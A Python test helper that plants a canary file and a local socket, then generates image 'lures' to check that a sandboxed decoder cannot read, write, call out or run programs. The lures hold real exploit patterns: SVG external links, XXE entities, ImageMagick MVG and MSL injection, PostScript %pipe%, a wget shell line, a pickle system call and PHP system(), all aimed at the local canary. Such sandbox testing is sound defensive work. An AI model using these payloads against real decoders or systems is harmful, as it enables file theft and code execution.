"""Things that nothing in a picture may reach, and pictures that ask for them.

A child that escaped would read a file, write one, call somewhere or start a program. So there
is a file to read or change, a socket that notes who calls it, and pictures whose texts name both
in every language that decoders have been known to obey.
"""

from __future__ import annotations

import hashlib
import secrets
import socket
import struct
import threading
import zlib
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path
    from typing import Self

_PNG = b"\x89PNG\r\n\x1a\n"


class Canary:
    """A file, a folder and a socket; everything else of the run knows nothing of them.

    Args:
        folder: Where they lie; made here.
    """

    def __init__(self, folder: Path) -> None:
        folder.mkdir()
        self.folder = folder
        self.word = f"canary-{secrets.token_hex(12)}"
        self.file = folder / "secret.txt"
        self.file.write_text(self.word, encoding="ascii")
        self._before = self._state()
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = int(self._socket.getsockname()[1])
        self.calls = 0
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join(5)

    def problems(self) -> list[str]:
        """What was touched."""
        found = []
        if self._state() != self._before:
            found.append("the planted file or its folder was changed")
        if self.calls:
            found.append(f"the planted socket was called {self.calls} times")
        return found

    def lures(self) -> Iterator[bytes]:
        """Files that ask whoever decodes them to read, write, call or run something."""
        for text in self._orders():
            data = text.encode()
            yield data
            # The same behind signatures that are taken, and inside pictures that are whole.
            yield b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + data
            yield b"GIF89a/*" + data
            yield _png_with(data)

    def _orders(self) -> Iterator[str]:
        """To read, write, call or run, in the languages of those who take orders."""
        url, here = f"http://127.0.0.1:{self.port}/lure.png", str(self.file)
        made = f"{self.folder}/made"
        svg = "<svg xmlns='http://www.w3.org/2000/svg'"
        link = "xmlns:x='http://www.w3.org/1999/xlink'"
        yield f"{svg} {link}><image x:href='{url}'/><image x:href='file://{here}'/></svg>"
        entities = f"<!ENTITY e SYSTEM 'file://{here}'><!ENTITY u SYSTEM '{url}'>"
        yield f"<?xml version='1.0'?><!DOCTYPE s [{entities}]>{svg}>&e;&u;</svg>"
        yield f"push graphic-context\nfill 'url({url}\"|touch {made})'\npop graphic-context"
        yield f"<image><read filename='{url}'/><write filename='{made}'/></image>"
        yield f"#EXTM3U\n#EXTINF:1,\nconcat:{url}|file://{here}\n#EXT-X-ENDLIST"
        yield f"%!PS\n({made}) (w) file closefile\n(%pipe%touch {made}) (w) file\nshowpage"
        yield f"#!/bin/sh\ntouch {made}; wget {url}\n"
        yield f"cos\nsystem\n(S'touch {made}'\ntR."
        yield f"<?php system('touch {made}'); ?>"

    def _listen(self) -> None:
        while True:
            try:
                self._socket.accept()[0].close()
            except OSError:
                return
            self.calls += 1

    def _state(self) -> tuple[object, ...]:
        status = self.file.stat()
        return (
            sorted(path.name for path in self.folder.iterdir()),
            status.st_mtime_ns,
            status.st_mode,
            hashlib.sha256(self.file.read_bytes()).hexdigest(),
        )


def _png_with(text: bytes) -> bytes:
    """A PNG that is whole, with a text as comment, as XMP and as EXIF."""
    row = b"\0" + bytes(3 * 16)
    return _PNG + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in (
            (b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0)),
            (b"tEXt", b"Comment\0" + text),
            (b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + text),
            (b"eXIf", text),
            (b"IDAT", zlib.compress(row * 16)),
            (b"IEND", b""),
        )
    )
